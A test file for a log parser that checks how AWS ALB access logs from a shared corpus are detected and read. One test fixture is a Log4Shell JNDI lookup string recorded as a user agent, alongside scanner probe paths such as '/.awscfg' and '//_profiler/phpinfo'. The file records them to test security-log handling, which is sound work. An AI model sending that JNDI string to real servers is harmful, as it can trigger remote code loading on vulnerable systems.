import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { nonBlankLines, readDetected, utc } from '../combined-log/helpers.js';

const dir = fileURLToPath(new URL('../../../../shared/corpus/', import.meta.url));
const haveCorpus = existsSync(dir);
if (!haveCorpus) console.warn(`corpus not found at ${dir}: skipping aws-alb corpus tests`);

/** Every aws-alb/ corpus file is an ALB access log; every line is a request. */
const EXPECTED: Record<string, { events: number }> = {
  'crowdsec-hub_aws-alb-http-bad-user-agent.log': { events: 4 },
  // Lines 8-14 carry four extra trailing fields (conn_trace_id and the URL-rewrite fields).
  'crowdsec-hub_aws-alb-logs.log': { events: 14 },
  // 63 lines, the last without a newline.
  'opensearch-catalog_amazon_elb_raw.log': { events: 63 },
};

describe.skipIf(!haveCorpus)('aws-alb corpus', () => {
  it('knows what to expect of every aws-alb/ file', () => {
    expect(readdirSync(join(dir, 'aws-alb')).sort()).toEqual(Object.keys(EXPECTED).sort());
  });

  it.each(Object.entries(EXPECTED))('%s', async (name, expected) => {
    const file = join(dir, 'aws-alb', name);
    const { report, events } = await readDetected(file);
    expect(report.format).toBe('aws-alb');
    expect({ events: events.length, skipped: report.skipped, errors: report.errors }).toEqual({ events: expected.events, skipped: 0, errors: [] });
    expect(events.length + report.skipped).toBe(nonBlankLines(file));
    for (const e of events) {
      expect(e.path, `${name}:${e.source.line}`).not.toMatch(/[?#]/);
      expect(e.ip, `${name}:${e.source.line}`).toMatch(/^[\d.]+$/);
    }
  });

  it('reads absolute request URLs, the misspelled bot user agent and the client address', async () => {
    const { events } = await readDetected(join(dir, 'aws-alb/opensearch-catalog_amazon_elb_raw.log'));
    expect(events[0]!.time).toBeCloseTo(utc('2022-07-05T04:47:50.273Z') + 0.035, 3);
    expect(events[0]).toMatchObject({
      ip: '20.78.123.34',
      action: 'GET //_profiler/phpinfo',
      status: 404,
      outcome: 'failure',
    });
    expect(events[0]!.userAgent).toMatch(/^Mozlila\/5\.0 .*Moblie Safari/);
  });

  it('reads a WAF fixed response (no target) and a Log4Shell user agent', async () => {
    const { events } = await readDetected(join(dir, 'aws-alb/crowdsec-hub_aws-alb-logs.log'));
    expect(events[4]).toMatchObject({ action: 'GET /.awscfg', status: 404, userAgent: '${jndi:ldap://${java:version}.domain/a}' });
    expect(events[6]).toMatchObject({ action: 'GET /remote_agent.php', ip: '192.168.1.16' });
  });
});
